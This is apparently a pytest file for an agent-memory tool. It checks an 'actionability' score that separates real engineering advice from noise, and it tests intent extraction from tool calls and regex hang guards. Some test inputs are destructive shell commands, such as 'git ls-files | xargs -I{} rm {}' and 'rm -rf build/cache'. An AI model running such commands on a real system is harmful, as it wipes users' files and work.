    "Before deploying, confirm STRIPE_API_URL is set in the production environment.",
    "The user prefers dark mode in every editor and terminal theme.",
    "We chose PostgreSQL with pgvector over a separate vector database to keep one backup.",
    "The last release failed because REDIS_URL was missing from the staging config.",
    "Migrations should be reversible and tested on a copy of real data.",
    "Prefer small, focused commits with messages that explain why.",
    "For WebSearch on library choices, check the last release date and the open issue count.",
    "Every background worker needs a memory limit in its Kubernetes manifest.",
    "Decision: feature flags live in the flags table, not in environment variables.",
    "Release notes: the user-facing change first, then the migration steps.",
    "The web image is built in two stages: npm ci --omit=dev in the builder, then nginx:1.27-alpine serves "
    "/usr/share/nginx/html.",
    "To find slow queries: check pg_stat_statements ordered by mean_exec_time.",
    "Backfill large tables in batches of 10,000 rows with a pause between batches.",
]

NOISE = [
    "RT @karpathy: agents are going to eat software, wild thread",
    "ClaudeCraft integrating OpenClaw for agent orchestration (eng: 12 likes)",
    "Just shipped v2 of our agent framework 🚀 #buildinpublic #ai",
    "[DEPTH:3] Strong reasoning: the model decomposed the problem into sub-goals",
    'User prefers "Now, can we go ahead and push this?"',
    'User said: "always use tabs"',
    "Now, can we make the dashboard load faster?",
    "def merge_confidence(a, b):\n    conf = max(a.conf, b.conf)\n    return conf * 0.9",
    "SELECT id, email FROM users WHERE created_at > now() - interval '1 day';",
    "https://docs.python.org/3/library/asyncio-task.html",
    "Use packet guidance.",
    "TODO",
    "Lorem ipsum dolor sit amet, consectetur adipiscing elit.",
    "2026-01-02 12:00:01 INFO worker started",
    'Traceback (most recent call last):\n  File "app.py", line 3, in <module>',
    "Security holes in agent ecosystems are everywhere right now.",
    "Interesting thread about auth",
    "How do I deploy to fly.io?",
    "Check out our new launch! Link in bio",
    "",
    "FAILED tests/test_cart.py::test_total_rounding - assert 1999 == 2000",
    "#7 [runtime 3/4] COPY --from=builder /app /app\n#7 DONE 0.2s",
    "- name: Install deps\n  run: npm ci\n- name: Test\n  run: npm test",
    "FROM node:20-alpine\nWORKDIR /app\nCOPY . .\nRUN npm ci",
    "Check the docs before proceeding.",
    "Follow the usual release procedure.",
    "The user opened the billing page three times in the session.",
    "I've used Postgres for a decade and still love it.",
]


@pytest.mark.parametrize("text", ADVICE)
def test_real_advice_passes_the_gate(text: str) -> None:
    result = actionability(text)
    assert result.score >= ACTIONABILITY_GATE, result
    assert result.not_observation == 1.0


@pytest.mark.parametrize("text", NOISE)
def test_observations_and_noise_fall_below_the_gate(text: str) -> None:
    result = actionability(text)
    assert result.score < ACTIONABILITY_GATE, result


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("RT @user: interesting thread about auth", "retweet"),
        ("OpenClaw momentum (eng: 30 likes)", "engagement metrics"),
        ("[DEPTH:5] Strong systems reasoning: mapped the dependency graph", "training log"),
        ('User said: "ship it"', "user quote"),
        ("class Foo:\n    def bar(self):\n        return 1", "code dump"),
        ("script: npm ci && npm run build && npm test -- --coverage", "code dump"),  # a YAML key's command
        # a sentence behind a label read as one YAML key line, as noise (audit Y: the failure scored 0.07)
        (
            "Failure: npm install with --legacy-peer-deps silently installed a broken React version; fix "
            "peer dependencies instead.",
            "directive",
        ),
        # the same without function words: it still ends as a sentence does (review of the fix)
        (
            "Failure: npm install --legacy-peer-deps silently installed broken React version; fix peer "
            "dependencies instead.",
            "directive",
        ),
        ("run: pytest -x tests/unit && ruff check src tests docs.", "code dump"),  # full stop or not
        # a command that ends in a file or a build context's "." is no sentence (review)
        ("cmd: pg_restore --clean --if-exists --no-owner --dbname prod backup.dump.", "code dump"),
        ("https://example.com/blog/post-1", "bare url"),
        ("Use packet guidance.", "vague placeholder"),
        ("TODO: fill in later", "placeholder"),
        ("2026-01-02 12:00:01 INFO worker started", "log line"),
        ("Always run the linter before committing.", "directive with condition"),
        ("Use ruff for linting.", "directive"),
    ],
)
def test_actionability_says_why(text: str, reason: str) -> None:
    assert actionability(text).reason == reason


def test_dimensions_are_bounded_and_move_the_right_way() -> None:
    plain = actionability("Caching is a thing.")
    directive = actionability("Cache the rendered page.")
    conditional = actionability("Cache the rendered page when the product list has not changed.")
    specific = actionability(
        "Cache `render_page()` output in Redis for 300 s when products.updated_at is unchanged."
    )
    assert plain.directive == 0.0 and directive.directive == 1.0
    assert conditional.condition == 1.0 and directive.condition == 0.0
    assert specific.specificity > conditional.specificity
    assert plain.score < directive.score < conditional.score < specific.score
    for result in (plain, directive, conditional, specific):
        assert isinstance(result, Actionability)
        for value in (
            result.directive,
            result.condition,
            result.specificity,
            result.not_observation,
            result.score,
        ):
            assert 0.0 <= value <= 1.0


def test_placeholder_words_do_not_sink_real_advice() -> None:
    # "TODO", "depth" and quotes inside real advice are not the noise patterns themselves
    assert (
        actionability("Limit recursion to a max depth of 3 in the JSON parser.").score >= ACTIONABILITY_GATE
    )
    assert actionability("Don't run rm -rf in the user's home directory.").score >= ACTIONABILITY_GATE
    assert actionability("Grep for TODO comments before tagging a release.").score >= ACTIONABILITY_GATE


@pytest.mark.parametrize(
    "token",
    ["a." * 2048, "0123456789abcdef" * 256, "A" * 4096, "x-" * 2048],
    ids=["dots", "hex", "A", "dash"],
)
def test_a_long_token_does_not_stall_the_hook(token: str) -> None:
    """The path pattern re-read a run of [\\w.-] from every position inside it: 20 todos of one
    4,096-character token took 6 s here, over the hook's 1 s budget. A hang guard like test_hostile's,
    not a speed target."""
    import time

    started = time.monotonic()
    intent = extract_intent("TodoWrite", {"todos": [{"content": token, "status": "pending"}] * 20}, token)
    assert time.monotonic() - started < 2 and intent.text


def test_a_markdown_table_does_not_stall_classification() -> None:
    """The size-table pattern of the log detector read the rest of a line from every bar: one 4 KB line
    of a markdown table took 150 to 370 ms here, five over 1 s. A hang guard, not a speed target."""
    import time

    row = "| " * 2048
    started = time.monotonic()
    for _ in range(5):
        assert classify_domain(row) in ACTION_DOMAINS
    assert time.monotonic() - started < 0.5
    assert classify_domain("dist/app.js  \u2502 142.3 kB \u2502 gzip: 40.1 kB") == "system"  # still a log


def test_brackets_do_not_stall_link_cleaning() -> None:
    """Markdown link text was re-read from every "[" of a "[[[..." prompt (17 ms a call here). A hang
    guard, not a speed target."""
    import time

    from spark_pg.intent.text import _MD_LINK

    started = time.monotonic()
    for text in ("[" * 4096, "[a](" * 1024) * 10:
        _MD_LINK.sub(r"\1", text)
    assert time.monotonic() - started < 0.1
    task = {"description": "Read [the guide](https://example.com/guide) first", "prompt": "["}
    assert "the guide" in extract_intent("Task", task).text


@pytest.mark.parametrize(
    ("tool", "tool_input"),
    [
        ("Bash", {}),
        ("Bash", None),
        ("Bash", {"command": ""}),
        ("Bash", {"command": "   "}),
        ("Write", {}),
        ("Edit", {"old_string": "", "new_string": ""}),
        ("WebSearch", {"query": ""}),
    ],
)
def test_a_call_with_nothing_to_go_on_is_skipped(tool: str, tool_input: dict[str, Any] | None) -> None:
    """Its bare verb ("run") surfaced the loudest advice there is: the destructive-commands rule."""
    assert extract_intent(tool, tool_input).trivial
    assert not extract_intent(tool, tool_input, "rotate the database password").trivial


def test_an_unknown_tool_is_never_blank_its_name_is_the_signal() -> None:
    assert not extract_intent("mcp__deploy__rollback", {}).trivial


@pytest.mark.parametrize(
    ("command", "action", "target"),
    [
        ("sudo -u postgres psql -c 'vacuum'", "query", "psql vacuum"),  # the program was "postgres"
        ("timeout -s KILL 30s pytest -x", "test", "pytest"),
        ("env -u DEBUG alembic upgrade head", "migrate", "alembic upgrade head"),
        ("git ls-files | xargs -I{} rm {}", "delete", "rm"),
    ],
)
def test_a_prefix_option_that_takes_a_value_is_not_the_program(
    command: str, action: str, target: str
) -> None:
    intent = extract_intent("Bash", {"command": command})
    assert (intent.action, intent.target) == (action, target)


def test_an_mcp_tool_of_a_known_server_with_other_fields_is_read_from_them() -> None:
    """mcp__shell__exec {"code": ...}: a shell kind whose command is under no key the shell parser reads was
    skipped as blank (a bare verb), though it runs `rm -rf`."""
    intent = extract_intent("mcp__shell__exec", {"code": "rm -rf build/cache"})
    assert not intent.trivial and "rm" in intent.text, intent


@pytest.mark.parametrize(
    ("text", "directive"),
    [
        # was 0.0 (audit Y): an instruction after a leading phrase without a comma, 0.28 overall
        ("On large tables use CREATE INDEX CONCURRENTLY.", 0.8),
        ("Before deploying run the migrations.", 0.8),
        ("With pytest use the -x flag to stop early.", 0.8),
        # statements that start the same way
        ("In the logs run ids appear twice.", 0.0),
        ("On Monday the team will review the deploy.", 0.0),
    ],
)
def test_an_instruction_after_a_leading_phrase_is_a_directive(text: str, directive: float) -> None:
    assert actionability(text).directive == directive
